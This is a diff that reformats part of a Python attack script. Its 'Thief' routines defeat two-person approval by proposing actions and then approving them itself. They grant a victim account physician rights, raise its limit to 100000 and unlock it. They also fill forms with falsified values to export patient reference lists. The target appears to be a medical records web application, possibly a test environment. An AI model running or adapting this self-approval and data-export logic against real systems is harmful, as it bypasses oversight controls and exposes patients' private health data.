@@ -41,8 +41,21 @@ def rights(thief: Thief) -> None:
     """Propose every act that needs two people, then be the second person oneself."""
     victim = thief.known.victim.username
     proposals: tuple[tuple[str, dict[str, str]], ...] = (
-        ("/accounts/approvals/grant/", {"account": victim, "username": victim, "professions": "physician", "profession": "physician"}),
-        ("/accounts/approvals/cap/", {"account": victim, "username": victim, "ground": "explained", "window": "hour", "limit": "100000", "hours": "4"}),
+        (
+            "/accounts/approvals/grant/",
+            {"account": victim, "username": victim, "professions": "physician", "profession": "physician"},
+        ),
+        (
+            "/accounts/approvals/cap/",
+            {
+                "account": victim,
+                "username": victim,
+                "ground": "explained",
+                "window": "hour",
+                "limit": "100000",
+                "hours": "4",
+            },
+        ),
         ("/accounts/approvals/unlock/", {"kind": "account", "target_kind": "account", "target": victim}),
     )
     for url, fields in proposals:
@@ -59,7 +72,9 @@ def approve(thief: Thief) -> None:
         if "approvals" in link:
             thief.press(thief.get(str(here.url.join(link)), "rights"), "rights")
     for number in NUMBERS:
-        thief.post(f"/accounts/approvals/{number}/", "rights", {"decision": "approve", "answer": "approve", "approve": "1"})
+        thief.post(
+            f"/accounts/approvals/{number}/", "rights", {"decision": "approve", "answer": "approve", "approve": "1"}
+        )
 
 
 def professions(thief: Thief) -> None:
@@ -81,7 +96,11 @@ def exports(thief: Thief) -> None:
             for form in page(answer).forms:
                 if form.method == "POST" and not {"password", "code"} & set(form.fields):
                     fields = thief.lie(form, tip)
-                    areas = {name: "\n".join(one.ref for one in tips) for name in fields if "patient" in name or "ref" in name}
+                    areas = {
+                        name: "\n".join(one.ref for one in tips)
+                        for name in fields
+                        if "patient" in name or "ref" in name
+                    }
                     thief.post(str(answer.url.join(form.action or str(answer.url))), "export", {**fields, **areas})
     approve(thief)
     for door in doors:
